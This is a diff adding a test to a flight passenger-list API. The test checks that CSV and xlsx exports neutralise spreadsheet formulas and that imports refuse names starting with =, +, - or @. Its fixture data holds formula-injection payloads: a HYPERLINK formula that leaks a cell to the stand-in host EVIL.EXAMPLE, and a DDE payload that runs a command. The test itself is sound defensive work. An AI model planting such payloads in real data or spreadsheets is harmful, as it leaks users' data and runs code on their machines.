@@ -133,6 +133,48 @@ describe('GET /flight/<id>/passenger in other formats', () => {
     expect(comparable(res.body.data.uploadPassengerList)).toEqual(comparable(stored));
   });
 
+  it('writes no cell a spreadsheet would run as a formula, keeps _xHHHH_ and days before March 1900 as they are, and the import refuses names and addresses that start like a formula', async () => {
+    // A list stored before the import refused such values: copied from the flight's own, then changed in the database.
+    const other = await createFlight(testApp, { resourceId: 2, from: 'LPPT', to: 'LIRF', departureAt: '2026-12-16T08:00:00Z', arrivalAt: '2026-12-16T11:00:00Z' });
+    const lists = testApp.database.connection.db!.collection('passenger_lists');
+    const { _id: _ignored, ...original } = (await lists.findOne({ flightId }))!;
+    const storedAs = async (id: number, change: (passengers: Record<string, unknown>[]) => void) => {
+      const passengers = (original.passengers as Record<string, unknown>[]).map((passenger) => ({ ...passenger }));
+      change(passengers);
+      await lists.insertOne({ ...original, flightId: id, passengers, history: [], historyDetails: [], exports: [], requests: [], outbox: [] });
+    };
+    await storedAs(other, (passengers) => {
+      passengers[0].surname = '=HYPERLINK("HTTP://EVIL.EXAMPLE/?LEAK="&B3,"CLICK")';
+      passengers[1].name = "-2+3+CMD|' /C CALC'!A0";
+    });
+    const csv = (await request(testApp.app).get(`/api/broker/v0/flight/${other}/passenger?format=csv`).set('Authorization', reader).buffer(true).parse(binary).expect(200)).body as Buffer;
+    const rows: Record<string, string>[] = parse(csv, { bom: true, columns: true, record_delimiter: '\r\n' });
+    expect(rows.map((row) => [row.Surname, row.Name, row.Phone])).toEqual([
+      [`'=HYPERLINK("HTTP://EVIL.EXAMPLE/?LEAK="&B3,"CLICK")`, 'ŁUKASZ', '+48601234567'],
+      ['NGUYỄN', `'-2+3+CMD|' /C CALC'!A0`, ''],
+      [stored[2].surname, stored[2].name, ''],
+      ['ERDŐS', 'PÁL', ''],
+    ]);
+
+    // An address holding _x0041_ and a birth day before March 1900 come back from the xlsx as they are.
+    const third = await createFlight(testApp, { resourceId: 2, from: 'LPPT', to: 'LIRF', departureAt: '2026-12-17T08:00:00Z', arrivalAt: '2026-12-17T11:00:00Z' });
+    await storedAs(third, (passengers) => {
+      passengers[2].email = '_x0041_@example.com';
+      passengers[2].date_born = '1900-01-01';
+    });
+    const xlsx = (await request(testApp.app).get(`/api/broker/v0/flight/${third}/passenger?format=xlsx`).set('Authorization', reader).buffer(true).parse(binary).expect(200)).body as Buffer;
+    const preview = await request(testApp.app).post(`/api/broker/v0/upload/${third}`).set('Authorization', writer).attach('paxlist', xlsx, 'export.xlsx').expect(200);
+    expect(preview.body[2]).toMatchObject({ email: '_x0041_@example.com', date_born: '1900-01-01' });
+
+    const refused = await request(testApp.app)
+      .post(`/api/broker/v0/flight/${other}/passenger`)
+      .set('Authorization', writer)
+      .send({ created: [passengerRecord(21, { surname: '=HYPERLINK("X")' }), passengerRecord(22, { name: '@SUM(A1:A9)' }), passengerRecord(23, { email: '=1+1@example.com' }), passengerRecord(24, { surname: "'t Hooft" })], modified: [], deleted: [] })
+      .expect(422);
+    expect(refused.body.error.details.map((detail: { index: number; field: string }) => [detail.index, detail.field])).toEqual([[0, 'surname'], [1, 'name'], [2, 'email']]);
+    expect(refused.body.error.details[0].message).toContain('a name cannot start with =, +, - or @');
+  });
+
   it('revalidates with the format’s ETag: 304 without a body', async () => {
     const res = await get('?format=csv').set('If-None-Match', '"1-csv"').expect(304);
     expect(res.text).toBe('');
